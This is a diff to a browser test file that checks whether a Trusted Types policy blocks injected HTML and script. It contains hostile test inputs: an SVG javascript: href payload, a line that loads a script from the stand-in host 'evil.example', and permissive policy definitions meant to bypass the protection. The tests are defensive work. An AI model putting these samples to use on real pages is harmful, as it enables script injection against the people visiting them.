@@ -1,9 +1,10 @@
 """Trusted Types in a real browser: what htmx brings passes our policy, and what could run is refused as a whole."""
 
+import re
 from collections.abc import Callable
 
 import pytest
-from playwright.sync_api import BrowserContext, Page, expect
+from playwright.sync_api import BrowserContext, Error, Page, expect
 
 from linksnap.models import User
 from tests.kept import link_of
@@ -31,18 +32,33 @@ REFUSED = [
     "<svg><a><animate attributeName=href values='javascript:1'/></a></svg>",
 ]
 
+OTHER_DOORS = [
+    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'",
+    "document.createElement('script').text = 'document.title = 1'",
+    "trustedTypes.createPolicy('another', {createHTML: html => html})",
+    "trustedTypes.createPolicy('default', {createHTML: html => html})",
+]
+
 
 @pytest.fixture
-def page(visit: Come) -> Page:
+def page(visit: Come, breaks_policy: None) -> Page:
     page = visit(person("alice")).new_page()
     page.goto("/")
     return page
 
 
-@pytest.mark.parametrize("html", REFUSED)
-def test_it_refuses_what_could_run(page: Page, html: str) -> None:
-    with pytest.raises(Exception, match="TrustedHTML"):
-        page.evaluate(_PUT, html)
+def refusal(page: Page, code: str, html: str | None = None) -> str:
+    """What the browser says to a script; nothing when it ran."""
+    try:
+        page.evaluate(code, html)
+    except Error as error:
+        return error.message
+    return ""
+
+
+def test_it_refuses_what_could_run(page: Page) -> None:
+    said = {html: refusal(page, _PUT, html) for html in REFUSED}
+    assert {html: words for html, words in said.items() if "TrustedHTML" not in words} == {}
 
 
 def test_it_takes_what_our_pages_are_made_of(page: Page) -> None:
@@ -56,18 +72,9 @@ def test_it_takes_what_our_pages_are_made_of(page: Page) -> None:
     page.evaluate(_PUT, whole)
 
 
-@pytest.mark.parametrize(
-    "code",
-    [
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'",
-        "document.createElement('script').text = 'document.title = 1'",
-        "trustedTypes.createPolicy('another', {createHTML: html => html})",
-        "trustedTypes.createPolicy('default', {createHTML: html => html})",
-    ],
-)
-def test_it_leaves_no_other_door(page: Page, code: str) -> None:
-    with pytest.raises(Exception, match=r"Trusted|policy"):
-        page.evaluate(f"() => {{{code}}}")
+def test_it_leaves_no_other_door(page: Page) -> None:
+    said = {code: refusal(page, f"() => {{{code}}}") for code in OTHER_DOORS}
+    assert {code: words for code, words in said.items() if not re.search("Trusted|policy", words)} == {}
 
 
 def test_it_lets_htmx_swap_fragments_and_whole_pages(visit: Come) -> None:
